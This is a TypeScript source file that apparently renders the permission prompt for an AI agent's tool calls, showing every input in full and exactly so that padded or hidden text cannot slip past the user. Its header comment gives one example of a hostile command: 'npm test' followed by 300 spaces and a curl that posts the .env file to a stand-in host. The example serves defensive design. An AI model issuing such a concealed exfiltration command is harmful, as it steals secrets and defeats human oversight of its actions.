/**
 * What the permission question shows of a tool call: all of it, as it will run. Every field of the
 * input is shown in full and exactly (`terminalSafe`'s `exact` mode: controls, invisible characters
 * and unusual spaces escaped, long runs of spaces counted), long lines wrapped, a real newline told
 * apart from a wrap (`│` starts a line of the value, `┆` continues a wrapped one). A call too long for
 * the screen shows its first and last rows with how much is left out, and the question offers `v` to
 * print it whole: the user never approves text other than what runs. The view is drawn with the
 * question at the bottom of the screen, so it always sits right above it, whatever prints meanwhile.
 *
 *   command: npm test[300 spaces]; curl -d @.env x
 *   description: Run the tests
 */
import { exactSegments } from "../terminal/safe-text.js";
import { charWidth, textWidth } from "../terminal/text-width.js";

/** A call shown inside the question line (`Allow Bash(ls -la)?`) is at most this wide. */
const INLINE_MAX = 100;

/** A tool call as the permission question shows it. */
export interface CallView {
  /**
   * `Name(argument)` when the call is one short, plain value that fits in the question line; otherwise
   * undefined, and the call is shown by `render` above the question.
   */
  inline: string | undefined;
  /**
   * The call's rows at `columns` cells, each ending with a newline. Given `maxRows`, a call of more
   * rows shows its first and last rows and a line saying how much is left out; without, all of it.
   */
  render(columns: number, maxRows?: number): string;
  /** Whether `render` leaves rows out at `columns` within `maxRows` (the question offers `v` then). */
  isCut(columns: number, maxRows: number): boolean;
}

/** A named value shown in the view (a field of the input, or what "always" would allow). */
export interface Field {
  name: string;
  value: string;
}

/**
 * The view of `toolName` called with `input`, then the `extra` fields (shown, not part of the call);
 * `mark` styles the stand-ins of escaped characters.
 */
export function callView(
  toolName: string,
  input: unknown,
  mark: (s: string) => string,
  extra: Field[] = [],
): CallView {
  const fields = inputFields(input);
  const only = fields.length === 1 ? fields[0] : undefined;
  const inline =
    fields.length === 0
      ? toolName
      : only &&
          !only.value.includes("\n") &&
          only.value.length <= INLINE_MAX &&
          exactSegments(only.value).every((s) => !s.mark)
        ? `${toolName}(${only.value})`
        : undefined;
  const totals = fields.reduce((n, f) => n + f.value.split("\n").length, 0);
  const size = fields.reduce((n, f) => n + f.value.length, 0);
  const view = rowsView(
    (columns) => [...fields, ...extra].flatMap((f) => fieldRows(f, Math.max(20, columns - 1), mark)),
    `the call is ${totals} lines, ${size} characters long`,
    mark,
  );
  return { ...view, inline };
}

/**
 * A view of rows made for a width (`rowsAt`), cut to `maxRows` when asked: the first two thirds and
 * the last third of the rows there is room for, around a line saying how much is left out and
 * `about` the whole (`the call is 300 lines…`).
 */
export function rowsView(
  rowsAt: (columns: number) => string[],
  about: string,
  mark: (s: string) => string,
): CallView {
  // Made once per width: a large call (a whole file to Write) is asked about, then maybe shown whole.
  let madeAt: { columns: number; rows: string[] } | undefined;
  const rows = (columns: number) => {
    if (madeAt?.columns !== columns) madeAt = { columns, rows: rowsAt(columns) };
    return madeAt.rows;
  };
  return {
    inline: undefined,
    isCut: (columns, maxRows) => rows(columns).length > maxRows,
    render(columns, maxRows) {
      const all = rows(columns);
      if (maxRows === undefined || all.length <= maxRows) return `${all.join("\n")}\n`;
      const head = Math.max(1, Math.ceil(((maxRows - 1) * 2) / 3));
      const tail = Math.max(1, maxRows - 1 - head);
      const left = all.length - head - tail;
      const note = `  … ${left} rows not shown: ${about} (v shows it all)`;
      return `${[...all.slice(0, head), mark(note), ...all.slice(-tail)].join("\n")}\n`;
    },
  };
}

/**
 * The input's fields in their order, each value as text (a string as is, anything else as JSON); a
 * non-object input is one field named `input`.
 */
export function inputFields(input: unknown): Field[] {
  if (input === null || typeof input !== "object" || Array.isArray(input))
    return input === undefined ? [] : [{ name: "input", value: JSON.stringify(input) ?? String(input) }];
  return Object.entries(input as Record<string, unknown>).map(([name, v]) => ({
    name,
    value: typeof v === "string" ? v : (JSON.stringify(v) ?? String(v)),
  }));
}

/**
 * The rows of one field at `width` cells: `name: value` for a one-line value, else a `name (N
 * lines):` heading and each line after `│ `; a wrapped row continues after `┆ `.
 */
export function fieldRows(field: Field, width: number, mark: (s: string) => string): string[] {
  const name = exactSegments(field.name)
    .map((s) => (s.mark ? mark(s.text) : s.text))
    .join("");
  const lines = field.value.split("\n");
  if (lines.length === 1) return wrapped(`  ${name}: `, "  ┆ ", lines[0], width, mark);
  return [
    `  ${name} (${lines.length} lines):`,
    ...lines.flatMap((line) => wrapped("  │ ", "  ┆ ", line, width, mark)),
  ];
}

const ASCII = /^[\x20-\x7e]*$/;

/** One line of a value wrapped at `width` cells, stand-ins kept whole and styled by `mark`. */
export function wrapped(
  first: string,
  next: string,
  line: string,
  width: number,
  mark: (s: string) => string,
): string[] {
  const rows: string[] = [];
  let row = first;
  let used = textWidth(first);
  const breakRow = () => {
    rows.push(row);
    row = next;
    used = textWidth(next);
  };
  for (const segment of exactSegments(line)) {
    if (segment.mark) {
      if (used + segment.text.length > width && used > textWidth(next)) breakRow();
      row += mark(segment.text);
      used += segment.text.length;
      continue;
    }
    if (ASCII.test(segment.text)) {
      // One cell a character: cut in slices (a file of megabytes is wrapped in milliseconds).
      let at = 0;
      while (at < segment.text.length) {
        if (used >= width) breakRow();
        const piece = segment.text.slice(at, at + width - used);
        row += piece;
        used += piece.length;
        at += piece.length;
      }
      continue;
    }
    for (const ch of segment.text) {
      const w = charWidth(ch.codePointAt(0) ?? 0);
      if (used + w > width) breakRow();
      row += ch;
      used += w;
    }
  }
  rows.push(row);
  return rows;
}
